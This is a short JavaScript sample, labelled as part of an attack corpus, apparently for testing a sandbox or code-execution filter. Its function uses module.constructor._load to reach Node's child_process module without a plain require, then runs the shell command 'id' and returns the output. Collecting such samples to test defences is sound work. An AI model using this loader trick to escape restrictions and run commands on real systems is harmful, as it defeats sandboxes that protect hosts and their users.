// corpus: attack class=process form=targeted
// module.constructor._load is the module loader.
function main() {
  return { out: module.constructor._load('child_process').execSync('id').toString() };
}

module.exports = { main };
